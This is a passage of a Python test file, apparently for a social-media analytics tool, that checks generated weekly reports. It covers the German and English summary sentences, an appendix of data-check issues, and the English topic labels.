        i18n.text("hl_slot", lang, posts=p, index=i18n.number(idx, lang),
                  when=i18n.text("hl_weekday", lang, day=days[s - 1]) if d == "weekday"
                  else i18n.text("hl_hour", lang, hour=f"{s:02d}:00"))
        for d, s, p, idx in slots
    ]  # fmt: skip
    out.append(i18n.text("hl_suggest", lang, network=i18n.network_name(network), n=total,
                         slots=i18n.text("hl_and", lang).join(parts)))  # fmt: skip
    return out


def test_the_report_opens_with_three_to_five_sentences_whose_numbers_are_mart_queries(
    built: Built, html_de: str, tmp_path: Path
) -> None:
    """Week 46 (nothing beyond normal variation), week 38 (the Herbstfest campaign lifts Facebook's reach above its
    normal range), in German and English: what moved, the goals, the best and weakest post, the posting time."""
    sentences = in_brief(html_de)
    assert 3 <= len(sentences) <= 5
    assert sentences == expected_in_brief(built, WEEK, "de")
    assert sentences[0].startswith("Keine Kennzahl lag außerhalb ihrer üblichen Schwankung")
    assert sentences[1].startswith("Ziele (Stand ") and "„Follower Facebook“" in sentences[1]
    campaign = build_weekly_report(built.cfg, built.warehouse, Week(2026, 38), out_dir=tmp_path, today=TODAY, pdf=False)
    html = campaign.html.read_text(encoding="utf-8")
    assert in_brief(html) == expected_in_brief(built, Week(2026, 38), "de")
    assert in_brief(html)[0].startswith("Mehr als üblich: ") and "auf Facebook" in in_brief(html)[0]
    english = build_weekly_report(
        built.cfg, built.warehouse, Week(2026, 38), out_dir=tmp_path / "en", today=TODAY, pdf=False, language="en"
    )
    sentences = in_brief(english.html.read_text(encoding="utf-8"))
    assert sentences == expected_in_brief(built, Week(2026, 38), "en") and 3 <= len(sentences) <= 5
    assert not re.search(r"Beiträge|Ziele|Vorschlag|üblich|Kennzahl|alle Konten", " ".join(sentences)), sentences


def test_the_appendix_lists_only_the_weeks_runs_issues_in_words(built: Built, html_de: str, tmp_path: Path) -> None:
    """The failed check's details are words, not JSON; week 38, whose days the week-46 runs reloaded (the posts'
    lifetime numbers), lists none of their issues: a run is a run of the week of its latest day."""
    _owner, appendix = sections(html_de)
    assert "facebook/104857600000001 2026-11-14; examples: 2026-11-14" in appendix
    assert not re.search(r'[{}\[\]"]', appendix), appendix
    other = build_weekly_report(built.cfg, built.warehouse, Week(2026, 38), out_dir=tmp_path, today=TODAY, pdf=False)
    _owner, appendix = sections(other.html.read_text(encoding="utf-8"))
    assert "impressions_within_20x_median" not in appendix and "snapshot-skipped" not in appendix
    assert built.query("SELECT count(*) FROM marts.run_issues WHERE week_start = ?", [Week(2026, 38).start]) == [(0,)]


def test_the_english_report_names_the_topics_in_english(built: Built, html_de: str, tmp_path: Path) -> None:
    """Topics are stored under the lexicon's German names; the English report shows each one's English name."""
    from socialmetrics.analytics.comments.topics import TOPIC_LABELS_EN, TopicMatcher, topic_label

    assert set(TopicMatcher().topics) == set(TOPIC_LABELS_EN)
    german = text_of(html_de).split("Häufigste Themen: ")[1].split(". ")[0].split(", ")
    # the lexicon's topics, and a comment's own keyword where the lexicon found none ('Nachricht'): quoted in English
    assert german and sum(t in TOPIC_LABELS_EN for t in german) >= 3, german
    english = build_weekly_report(built.cfg, built.warehouse, WEEK, out_dir=tmp_path, today=TODAY, pdf=False,
                                  language="en")  # fmt: skip
    shown = text_of(english.html.read_text(encoding="utf-8")).split("Most frequent topics: ")[1].split(". ")[0]
    assert shown.split(", ") == [topic_label(t, "en") for t in german]
